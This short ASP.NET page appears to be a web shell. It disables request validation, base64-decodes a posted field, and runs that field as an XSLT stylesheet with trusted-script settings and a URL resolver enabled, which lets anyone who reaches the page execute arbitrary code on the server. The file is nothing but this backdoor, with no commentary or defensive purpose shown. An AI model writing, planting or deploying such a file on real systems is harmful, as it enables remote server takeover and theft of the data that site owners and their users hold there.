<%@ Page Language="C#" Debug="true" validateRequest="false" %>
<%@ import Namespace="System.Xml.Xsl"%>
<% string x = Encoding.UTF8.GetString(Convert.FromBase64String(Request.Form["p"])); XmlDocument d = new XmlDocument(); d.LoadXml("<root/>"); XmlDocument s = new XmlDocument(); s.LoadXml(x); XslCompiledTransform t = new XslCompiledTransform(); t.Load(s, XsltSettings.TrustedXslt, new XmlUrlResolver()); t.Transform(d, null, new MemoryStream()); %>
